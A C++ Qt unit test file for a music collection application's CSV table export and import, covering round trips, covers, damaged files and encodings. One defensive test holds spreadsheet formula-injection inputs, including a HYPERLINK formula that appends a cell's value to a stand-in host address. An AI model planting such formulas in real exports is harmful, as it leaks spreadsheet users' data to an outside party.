// CSV tables: the exact round trip into an empty collection, the records path into one with
// rows, and damaged files that add nothing.
#include "collection.h"
#include "exchange/csvtables.h"
#include "exchange/records.h"
#include "store/coverimage.h"

#include <QDir>
#include <QFile>
#include <QImage>
#include <QTemporaryDir>
#include <QTest>

namespace {

const QStringList kFiles{"Lydsam.csv", "Arkiv.csv", "Numre.csv", "Genre.csv", "Musiker.csv"};

QByteArray contents(const QString& path) {
    QFile f(path);
    return f.open(QIODevice::ReadOnly) ? f.readAll() : QByteArray();
}

void write(const QString& path, const QByteArray& bytes) {
    QFile f(path);
    QVERIFY(f.open(QIODevice::WriteOnly | QIODevice::Truncate));
    f.write(bytes);
}

// A small collection with everything awkward a file can hold.
void fill(TestCollection& c) {
    TestCollection::add(c.lydsam,
                        {"Kunstner=Ääni, \"Öinen\"", "Titel=Talvi", "Genre=Jazz", "Media=LP",
                         "Pris=12.5", "Num=3", "Notater=rivi 1\r\nrivi 2\nrivi 3"});
    TestCollection::add(c.lydsam, {"Kunstner=東京", "Titel=Kesä", "Pris=0.1", "Num=9"});
    TestCollection::add(c.lydsam, {"Titel=Ilman numeroa"});
    for (const char* n : {"1", "2", "3", "9"})
        TestCollection::add(c.arkiv, {QStringLiteral("ArkivNr=") + QLatin1String(n)});
    TestCollection::add(c.numre, {"Num=3", "Titel=Talvi", "Nummer=1", "NrTitel=Yö", "Notat=,"});
    TestCollection::add(c.numre, {"Num=9", "Titel=Kesä", "Nummer=1", "NrTitel=Aamu"});
    TestCollection::add(c.numre, {"NrTitel=Ei levyä"});
    TestCollection::add(c.genre, {"Genre=Jazz"});
    TestCollection::add(c.genre, {"Genre=Blues", "Nr=7"});
    TestCollection::add(c.musiker, {"NrTitel=Yö", "Musiker=Eero", "Instrument=piano", "Titel=Talvi",
                                    "Num=4", "Nummer=2", "Notat=\"lainattu\""});
    TestCollection::add(c.musiker, {"NrTitel=Aamu", "Musiker=Aino", "Titel=Kesä"});
}

} // namespace

class TestCsvTables : public QObject {
    Q_OBJECT

private slots:
    void roundTripIsByteIdentical();
    void coversGoToTheReleaseTheRowBecame();
    void damagedFilesAddNothing_data();
    void damagedFilesAddNothing();
    void intoACollectionWithRows();
    void formulasWrittenInert_data();
    void formulasWrittenInert();
    void windows1252Converted_data();
    void windows1252Converted();
    void tracksFindTheirReleaseByNumber_data();
    void tracksFindTheirReleaseByNumber();
};

void TestCsvTables::roundTripIsByteIdentical() {
    QTemporaryDir dir;
    TestCollection first;
    fill(first);
    exchange::writeCsvTables(first.tables, dir.filePath("a"));
    QCOMPARE(contents(dir.filePath("a/Arkiv.csv")), QByteArray("ArkivNr\r\n1\r\n2\r\n3\r\n9\r\n"));
    QCOMPARE(contents(dir.filePath("a/Genre.csv")),
             QByteArray("Genre,Nr\r\nJazz,1\r\nBlues,7\r\n"));

    TestCollection second;
    const auto s = exchange::importCsvTables(second.tables, dir.filePath("a"));
    QCOMPARE(s.releases, 3);
    QCOMPARE(s.tracks, 3);
    QCOMPARE(s.musicians, 2);
    QVERIFY(second.lydsam.changeCount() > 0);
    exchange::writeCsvTables(second.tables, dir.filePath("b"));
    for (const QString& name : kFiles)
        QCOMPARE(contents(dir.filePath("b/" + name)), contents(dir.filePath("a/" + name)));
}

// Out into Kannet/ (an earlier export's cover of no release now goes), back to the same Num in an
// empty collection, to the new number in one with rows.
void TestCsvTables::coversGoToTheReleaseTheRowBecame() {
    QTemporaryDir dir;
    TestCollection a;
    fill(a); // releases 3 and 9
    store::Covers covers(dir.filePath("a/").toStdString());
    a.tables.covers = &covers;
    QImage image(30, 10, QImage::Format_RGB32);
    image.fill(Qt::blue);
    covers.set(9, std::make_shared<const std::string>(store::encodeCover(image)));
    QVERIFY(QDir().mkpath(dir.filePath("csv/Kannet")));
    write(dir.filePath("csv/Kannet/3.jpg"), "stale");
    exchange::writeCsvTables(a.tables, dir.filePath("csv"));
    QCOMPARE(QDir(dir.filePath("csv/Kannet")).entryList(QDir::Files), QStringList{"9.jpg"});

    for (const bool empty : {true, false}) {
        TestCollection b;
        store::Covers into(dir.filePath(empty ? "b/" : "c/").toStdString());
        b.tables.covers = &into;
        if (!empty)
            TestCollection::add(b.lydsam, {"Titel=Oma", "Num=20"}); // Kesä becomes 22
        QCOMPARE(exchange::importCsvTables(b.tables, dir.filePath("csv")).covers, 1);
        const std::int32_t num = empty ? 9 : 22;
        QCOMPARE(TestCollection::column(b.lydsam, "Num").indexOf(QString::number(num)),
                 empty ? 1 : 2);
        QVERIFY(into.has(num) && !into.has(empty ? 22 : 9));
        QCOMPARE(store::readCoverImage(*into.picture(num), 100, "").size(), QSize(30, 10));
    }
}

void TestCsvTables::damagedFilesAddNothing_data() {
    QTest::addColumn<QByteArray>("bytes");
    QTest::addColumn<QString>("message"); // starts with the damaged file's name
    QTest::newRow("a number that is not one") << QByteArray("Num,NrTitel\r\n3,Yö\r\nx,Aamu\r\n")
                                              << "Numre.csv, line 3: expected a whole number in "
                                                 "Num, found 'x'";
    QTest::newRow("a price with a decimal comma")
        << QByteArray("Titel,Pris\r\nA,\"12,5\"\r\n")
        << "Lydsam.csv, line 2: expected a price such as 12.50 in Pris, found '12,5'";
    QTest::newRow("a column the table does not have")
        << QByteArray("Genre,Colour\r\n")
        << "Genre.csv, line 1: expected field names of the table, found 'Colour'";
    QTest::newRow("a row short of fields") << QByteArray("NrTitel,Musiker\r\nYö\r\n")
                                           << "Musiker.csv, line 2: expected 2 fields, found 1";
    QTest::newRow("UTF-8 broken further on")
        << QByteArray("Titel\r\nKes\xC3\xA4\r\nTalvi\r\nY\xF6\r\n")
        << "Lydsam.csv, line 4: not UTF-8";
    QTest::newRow("the last file cut off in a quote")
        << QByteArray("NrTitel,Musiker\r\nYö,\"Eero\r\n")
        << "Musiker.csv, line 2: a quoted field is not closed";
}

void TestCsvTables::damagedFilesAddNothing() {
    QFETCH(QByteArray, bytes);
    QFETCH(QString, message);
    const QString file = message.section(',', 0, 0);
    QTemporaryDir dir;
    TestCollection source;
    fill(source);
    exchange::writeCsvTables(source.tables, dir.path());
    write(dir.filePath(file), bytes);
    for (bool empty : {true, false}) {
        TestCollection target;
        if (!empty)
            TestCollection::add(target.lydsam, {"Titel=Oma", "Num=1"});
        const int before = target.changes();
        try {
            exchange::importCsvTables(target.tables, dir.path());
            QFAIL("no error");
        } catch (const exchange::ReadError& e) {
            QVERIFY2(QString::fromUtf8(e.what()).endsWith(message), e.what());
            QVERIFY(QString::fromUtf8(e.what()).startsWith(dir.filePath(file)));
        }
        QCOMPARE(target.changes(), before);
        QCOMPARE(target.lydsam.storedRowCount(), empty ? 0 : 1);
        QCOMPARE(target.numre.storedRowCount() + target.musiker.storedRowCount(), 0);
    }
}

void TestCsvTables::intoACollectionWithRows() {
    QTemporaryDir dir;
    TestCollection source;
    fill(source);
    exchange::writeCsvTables(source.tables, dir.path());

    TestCollection c;
    TestCollection::add(c.lydsam, {"Kunstner=Oma", "Titel=Levy", "Num=1"});
    for (const char* n : {"1", "2", "3"})
        TestCollection::add(c.arkiv, {QStringLiteral("ArkivNr=") + QLatin1String(n)});
    TestCollection::add(c.genre, {"Genre=jazz"});
    const auto s = exchange::importCsvTables(c.tables, dir.path());

    QCOMPARE(s.releases, 3);
    QCOMPARE(s.tracks, 2);
    QCOMPARE(s.skipped, 1); // the track of no release
    QCOMPARE(TestCollection::column(c.lydsam, "Num"), (QStringList{"1", "4", "5", "6"}));
    QCOMPARE(TestCollection::column(c.lydsam, "Pris"), (QStringList{"", "12.5", "0.1", ""}));
    // The file's Arkiv rows are not copied; new numbers are given out.
    QCOMPARE(TestCollection::column(c.arkiv, "ArkivNr"),
             (QStringList{"1", "2", "3", "4", "5", "6"}));
    QCOMPARE(TestCollection::column(c.numre, "Num"), (QStringList{"4", "5"}));
    QCOMPARE(TestCollection::column(c.numre, "NrTitel"), (QStringList{"Yö", "Aamu"}));
    QCOMPARE(TestCollection::column(c.musiker, "NrTitel"), (QStringList{"Yö", "Aamu"}));
    QCOMPARE(TestCollection::column(c.musiker, "Notat"), (QStringList{"\"lainattu\"", ""}));
    QCOMPARE(TestCollection::column(c.genre, "Genre"), (QStringList{"jazz", "Blues"}));
    // Again: every release is there already.
    QCOMPARE(exchange::importCsvTables(c.tables, dir.path()).releases, 0);
}

void TestCsvTables::formulasWrittenInert_data() {
    QTest::addColumn<QString>("titel");
    QTest::addColumn<QByteArray>("cell"); // as Lydsam.csv has it
    QTest::newRow("a formula") << "=HYPERLINK(\"//x/?\"&A2;\"Levy\")"
                               << QByteArray("\"'=HYPERLINK(\"\"//x/?\"\"&A2;\"\"Levy\"\")\"");
    QTest::newRow("an at sign") << "@SUM(1)" << QByteArray("'@SUM(1)");
    QTest::newRow("a plus") << "+358" << QByteArray("'+358");
    QTest::newRow("a minus") << "-x" << QByteArray("'-x");
    QTest::newRow("a tab") << "\tx" << QByteArray("'\tx");
    QTest::newRow("a carriage return") << "\rx" << QByteArray("\"'\rx\"");
    QTest::newRow("guarded by hand already") << "'=1" << QByteArray("''=1");
    QTest::newRow("an apostrophe of its own") << "'62" << QByteArray("'62");
    QTest::newRow("a sign further on") << "a-b" << QByteArray("a-b");
}

// The negative price stays a number; the text comes back as it was, the files byte for byte.
void TestCsvTables::formulasWrittenInert() {
    QFETCH(QString, titel);
    QFETCH(QByteArray, cell);
    QTemporaryDir dir;
    TestCollection first;
    TestCollection::add(first.lydsam, {"Titel=" + titel, "Pris=-5", "Num=1"});
    TestCollection::add(first.numre, {"Num=1", "NrTitel=" + titel});
    exchange::writeCsvTables(first.tables, dir.filePath("a"));
    QCOMPARE(contents(dir.filePath("a/Lydsam.csv")).split('\n').value(1),
             "," + cell + ",,,,,,,-5,1,\r");

    TestCollection second;
    exchange::importCsvTables(second.tables, dir.filePath("a"));
    QCOMPARE(TestCollection::column(second.lydsam, "Titel"), QStringList{titel});
    exchange::writeCsvTables(second.tables, dir.filePath("b"));
    for (const QString& name : kFiles)
        QCOMPARE(contents(dir.filePath("b/" + name)), contents(dir.filePath("a/" + name)));

    TestCollection withRows;
    TestCollection::add(withRows.lydsam, {"Titel=Oma", "Num=1"});
    exchange::importCsvTables(withRows.tables, dir.filePath("a"));
    QCOMPARE(TestCollection::column(withRows.lydsam, "Titel"), (QStringList{"Oma", titel}));
    QCOMPARE(TestCollection::column(withRows.numre, "NrTitel"), QStringList{titel});
}

void TestCsvTables::windows1252Converted_data() {
    QTest::addColumn<bool>("empty"); // the target: restored as it is, or imported as records
    QTest::newRow("into an empty collection") << true;
    QTest::newRow("into one with rows") << false;
}

// A spreadsheet saved the file again in its own encoding.
void TestCsvTables::windows1252Converted() {
    QFETCH(bool, empty);
    QTemporaryDir dir;
    write(dir.filePath("Lydsam.csv"),
          "Kunstner,Titel,Forlag,Num\r\nAC,Ei,Levy,2\r\nM\xF6tley Cr\xFC"
          "e,Dr. Feelgood,"
          "\xC4\xE4ni,3\r\n");
    write(dir.filePath("Numre.csv"), "Num,NrTitel\r\n3,Kickstart My Heart\r\n");
    TestCollection c;
    if (!empty)
        TestCollection::add(c.lydsam, {"Titel=Oma", "Num=1"});
    const auto s = exchange::importCsvTables(c.tables, dir.path());
    QCOMPARE(TestCollection::column(c.lydsam, "Kunstner").mid(empty ? 0 : 1),
             (QStringList{"AC", "Mötley Crüe"}));
    QCOMPARE(TestCollection::column(c.lydsam, "Forlag").last(), QString("Ääni"));
    QCOMPARE(c.numre.storedRowCount(), 1);
    QVERIFY(s.fromWindows1252);
    QCOMPARE(s.notes, std::vector<std::string>{"Lydsam.csv: not UTF-8, read as Windows-1252"});
}

void TestCsvTables::tracksFindTheirReleaseByNumber_data() {
    QTest::addColumn<QByteArray>("lydsamNum");
    QTest::addColumn<QByteArray>("numreNum");
    QTest::newRow("a leading zero on the track") << QByteArray("7") << QByteArray("07");
    QTest::newRow("a leading space on the track") << QByteArray("7") << QByteArray("\" 7\"");
    QTest::newRow("a leading zero on the release") << QByteArray("07") << QByteArray("7");
    QTest::newRow("both written alike") << QByteArray("7") << QByteArray("7");
}

void TestCsvTables::tracksFindTheirReleaseByNumber() {
    QFETCH(QByteArray, lydsamNum);
    QFETCH(QByteArray, numreNum);
    QTemporaryDir dir;
    write(dir.filePath("Lydsam.csv"), "Titel,Num\r\nSeitsemän," + lydsamNum + "\r\n");
    write(dir.filePath("Numre.csv"), "Num,NrTitel\r\n" + numreNum + ",Yö\r\n");
    TestCollection c;
    TestCollection::add(c.lydsam, {"Titel=Oma", "Num=1"});
    const auto s = exchange::importCsvTables(c.tables, dir.path());
    QCOMPARE(s.skipped, 0);
    QCOMPARE(TestCollection::column(c.numre, "Titel"), QStringList{"Seitsemän"});
    QCOMPARE(TestCollection::column(c.numre, "Num"), QStringList{"2"});
}

QTEST_GUILESS_MAIN(TestCsvTables)
#include "tst_csvtables.moc"
